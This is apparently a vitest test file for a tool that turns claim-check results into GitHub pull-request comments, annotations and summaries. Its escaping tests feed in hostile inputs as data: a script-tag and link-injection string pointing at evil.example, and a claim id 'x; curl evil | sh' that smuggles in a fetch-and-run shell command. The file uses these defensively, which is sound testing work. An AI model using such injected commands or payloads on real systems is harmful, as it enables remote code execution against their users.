import { readFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { ClaimEvidence } from "../../src/claim/result.ts";
import { packageRoot } from "../../src/project/roots.ts";
import { annotations } from "../../src/report/review/annotations.ts";
import { notesOfChanges } from "../../src/report/review/change-note.ts";
import { claimSource } from "../../src/report/review/claim-source.ts";
import {
  COMMENT_BYTES,
  commentReport,
  pageOf,
  SUMMARY_BYTES,
  summaryReport,
} from "../../src/report/review/pull-request.ts";
import { isRed, reportRows } from "../../src/report/review/report-rows.ts";
import { expectGolden } from "../golden/golden-file.ts";
import { comparedWith, reviewerSources, sound, source, withClaims, withState } from "./sources.ts";

const cases = Object.entries(reviewerSources());
const locate = claimSource(packageRoot());

describe("what a reviewer reads", () => {
  test.each(cases)("of %s, as a comment", (name, each) => {
    expectGolden(`pull-request/${name}.comment.md`, commentReport(each));
  });

  test.each(cases)("of %s, as annotations", (name, { result, changes }) => {
    const lines = annotations(reportRows(result.evidence, changes?.notes ?? []), locate);
    expectGolden(`pull-request/${name}.annotations.txt`, lines.map((line) => `${line}\n`).join(""));
  });

  test("of 200 rows, as a job's summary", () => {
    expectGolden("pull-request/200-rows.summary.md", summaryReport(reviewerSources()["200-rows"]!));
  });
});

describe("the worst stands first", () => {
  test("a failing claim before a changed one before a moved estimate", () => {
    const [chain, exit] = sound.evidence.claims as [ClaimEvidence, ClaimEvidence];
    const moved = { ...exit, id: "orvieto2021/escape/moved" };
    const before = withClaims([chain, exit, moved]);
    const now = withClaims([
      {
        ...moved,
        arms: moved.arms.map((arm) => ({ ...arm, units: arm.units.map((unit) => ({ ...unit, estimate: 7 })) })),
      },
      { ...exit, hash: "e".repeat(64) },
      withState(chain, "claimed", "refuted"),
    ]);
    const notes = source(now, comparedWith(before, now)).changes!.notes;
    expect(reportRows(now.evidence, notes).map(({ rank }) => rank)).toEqual(["fails", "changed", "estimate"]);
  });

  test("what the head's baselines accept is shown and makes nothing red", () => {
    const changed = withClaims(sound.evidence.claims.map((claim) => ({ ...claim, hash: "e".repeat(64) })));
    const base = comparedWith(sound, changed);
    const { notes } = notesOfChanges({ base, head: comparedWith(changed, changed), unrun: [] }, "base");
    const rows = reportRows(changed.evidence, notes);
    expect(rows.map(isRed)).toEqual([false, false]);
    expect(rows[0]!.what.join()).toContain("accepted in the head's baselines");
  });

  test("a claim that was not run is red", () => {
    const { notes } = notesOfChanges({ base: [], head: [], unrun: ["orvieto2021/a"] }, "base");
    expect(
      reportRows(sound.evidence, notes)
        .filter(isRed)
        .map(({ id }) => id),
    ).toEqual(["orvieto2021/a"]);
  });
});

describe("annotations", () => {
  test("are at most ten errors, and the tenth says how many more", () => {
    const { result } = reviewerSources()["200-rows"]!;
    const lines = annotations(reportRows(result.evidence, []), locate);
    expect(lines).toHaveLength(10);
    expect(lines.at(-1)).toBe("::error::and 91 more claims: see the job summary");
  });

  test("point at the line of the claim's file", () => {
    const id = "orvieto2021/width/fixed-width-vanishes";
    const file = `suites/${id}.claim.ts`;
    const text = readFileSync(join(packageRoot(), file), "utf8");
    const lineOf = (start: string) => 1 + text.split("\n").findIndex((line) => line.startsWith(`  ${start}`));
    expect(locate({ id, about: "claim" })).toEqual({ file, line: lineOf("id: ") });
    expect(locate({ id, about: "prediction" })).toEqual({ file, line: lineOf("prediction: {") });
    expect(locate({ id, about: "controls" })).toEqual({ file, line: lineOf("controls: [") });
    expect(locate({ id: "../../package", about: "claim" })).toBeUndefined();
    expect(locate({ id: "orvieto2021/no/such-claim", about: "claim" })).toBeUndefined();
  });

  test("stay one command each, whatever a claim is called", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), fc.string({ unit: "binary" }), (title, reason) => {
        const rows = reportRows(hostile(title, reason).evidence, []);
        for (const line of annotations(rows, locate)) expect(line).toMatch(/^::error [^\r\n]*$/);
      }),
      { numRuns: 50 },
    );
  });
});

describe("the limits of GitHub hold, whatever is said", () => {
  test.each([
    ["ampersands", "&"],
    ["stars", "*"],
    ["four-byte letters", "\u{1f600}"],
    ["lone surrogates", "\ud800"],
    ["at signs", "@"],
  ])("long %s", (_, mark) => {
    const [claim] = hostile(mark.repeat(5000), mark.repeat(5000)).evidence.claims;
    const claims = Array.from({ length: 300 }, (_, at) => ({ ...claim!, id: `orvieto2021/a/claim-${at}` }));
    const each = source(withClaims(claims), undefined);
    expect(Buffer.byteLength(commentReport(each))).toBeLessThanOrEqual(COMMENT_BYTES);
    expect(Buffer.byteLength(summaryReport(each))).toBeLessThanOrEqual(SUMMARY_BYTES);
  });

  test("no text becomes markup, a mention or a link", () => {
    const text =
      "<script>alert(1)</script> @maintainers [x](https://evil.example) ![i](http://e) | `a` \u001b[31mred #12 GH-3 www.evil.example";
    const comment = commentReport(source(hostile(text, text), undefined));
    // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what is looked for
    const alive = /<script|@maintainers|&#64;maintainers|#12|GH-3|(?<!\\)!\[|\u001b|https:\/\/evil|www\./;
    expect(comment).not.toMatch(alive);
    expect(comment.match(/(?<!\\)\]\([^)]*\)/g)).toEqual([
      `](https://example.org/plateau/claims/${vanishId})`,
      "](https://example.org/plateau)",
    ]);
  });

  test("a command to copy has no stranger's text in it", () => {
    const [claim] = sound.evidence.claims as [ClaimEvidence];
    const bad = withClaims([withState({ ...claim, id: "x; curl evil | sh" }, "claimed", "refuted")]);
    expect(commentReport(source(bad, undefined))).not.toContain("```sh");
    expect(pageOf("../../x", "https://example.org")).toBeUndefined();
  });
});

const vanishId = sound.evidence.claims[0]!.id;

/** A claim that crashed, with words of a stranger. */
function hostile(title: string, reason: string) {
  const [claim] = sound.evidence.claims as [ClaimEvidence];
  const arms = claim.arms.map((arm) => (arm.kind === "claimed" ? { ...arm, state: "crashed" as const, reason } : arm));
  return withClaims([{ ...claim, title, arms }]);
}
